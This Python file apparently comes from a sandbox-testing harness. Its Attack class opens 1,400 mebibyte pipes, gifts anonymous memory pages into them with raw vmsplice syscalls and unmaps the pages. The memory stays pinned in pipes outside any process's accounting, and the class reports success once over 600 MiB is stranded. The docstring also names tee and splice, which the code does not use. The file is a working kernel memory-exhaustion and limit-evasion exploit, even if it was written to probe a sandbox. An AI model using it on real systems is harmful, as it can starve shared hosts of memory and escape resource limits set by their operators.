"""Lends pages to pipes and forgets them: vmsplice, tee and splice, with pipes of a mebibyte."""

import ctypes
import fcntl
import mmap
import os
import struct
import time

from aim import LIBC, MIB, loot, most_files

from run import ZEWDPCBaseRun

VMSPLICE, SET_SIZE = 278, 1031


class Attack(ZEWDPCBaseRun):
    def purchase_phase(self, unlabelled_dataset):
        most_files()
        LIBC.mmap.restype = ctypes.c_void_p
        lent, pipes = 0, []
        for _ in range(1400):
            pipes.append(os.pipe())
            write = pipes[-1][1]
            os.set_blocking(write, False)
            try:
                size = fcntl.fcntl(write, SET_SIZE, MIB)
            except OSError:
                size = 4096
            kind = mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS
            start = LIBC.mmap(None, ctypes.c_size_t(size), mmap.PROT_READ | mmap.PROT_WRITE, kind, -1, ctypes.c_long(0))
            ctypes.memset(start, 1, size)
            pages = ctypes.create_string_buffer(struct.pack("PN", start, size))
            lent += max(0, LIBC.syscall(VMSPLICE, write, pages, 1, 8))
            LIBC.munmap(ctypes.c_void_p(start), ctypes.c_size_t(size))
        time.sleep(1)
        print(lent // MIB, flush=True)
        if lent > 600 * MIB:
            loot(f"{lent // MIB} MiB of pages that no process has")
